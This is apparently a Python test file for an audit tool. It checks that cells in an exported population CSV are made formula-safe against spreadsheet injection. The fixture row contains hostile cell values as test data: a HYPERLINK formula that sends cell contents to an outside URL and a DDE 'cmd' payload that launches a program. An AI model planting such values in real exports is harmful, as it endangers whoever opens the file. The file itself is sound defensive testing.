"""An evidence pack's population CSVs keep formulas inert (s22 web-left, medium).

``populations/<control>.csv`` is the file an auditor opens in a spreadsheet; its cells carry
text from the ledger entries (resource names, case ids, actors, a change's diff), some of it a
publisher's or a tenant admin's (a subject ``=HYPERLINK(...)``). It was written as stored. Now
its text cells are formula-safe like the query exports (``audit.csvcell``), and ``hub-verify``
accepts a row in that form or as stored (packs written before).
"""

from __future__ import annotations

import csv
import io
import zipfile
from typing import Any

import pytest

from audit import bundle
from audit.csvcell import formula_safe
from ledger.report import population_csv

ROW: dict[str, Any] = {
    "index": 7,
    "time": "2026-12-06T04:00:00Z",
    "actor": "@SUM(A1)",
    "action": "erasure.request",
    "resource": '=HYPERLINK("https://x/?"&A1,"open")',
    "outcome": "allow",
    "policy_version": "-5",
    "topic": "hub.decisions",
    "partition": 0,
    "offset": 12,
    "checkpoint": 9,
    "diff": "+cmd|' /C calc'!A0",
}


def test_population_cells_are_formula_safe() -> None:
    rows = list(csv.reader(io.StringIO(population_csv([ROW]))))
    cells = dict(zip(rows[0], rows[1], strict=True))
    assert cells["actor"] == "'@SUM(A1)"
    assert cells["resource"] == '\'=HYPERLINK("https://x/?"&A1,"open")'
    assert cells["diff"] == "'+cmd|' /C calc'!A0"
    assert cells["policy_version"] == "-5"  # a number stays as it is
    assert cells["entry"] == "7"


def _check(text: str, entry: dict[str, Any]) -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as zf:
        zf.writestr("populations/CC6.1.csv", text)
    with zipfile.ZipFile(out) as zf:
        bundle._population_csv(zf, "CC6.1", [entry])


def test_hub_verify_reads_both_forms_and_still_finds_a_change() -> None:
    _check(population_csv([ROW]), ROW)  # as the hub writes it now
    raw = io.StringIO()
    w = csv.writer(raw, lineterminator="\n")
    w.writerow(bundle.POPULATION_CSV_HEAD)
    w.writerow(bundle._csv_row(ROW))
    _check(raw.getvalue(), ROW)  # as packs were written before
    with pytest.raises(bundle.PackError, match="actor"):
        _check(population_csv([{**ROW, "actor": "@SUM(A2)"}]), ROW)


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("=1+2", "'=1+2"),
        ("-5", "-5"),
        ("+3.5e2", "+3.5e2"),
        ("-", "'-"),
        ("\t=1", "'\t=1"),
        ("ok", "ok"),
        ("", ""),
    ],
)
def test_formula_safe(text: str, safe: str) -> None:
    assert formula_safe(text) == safe
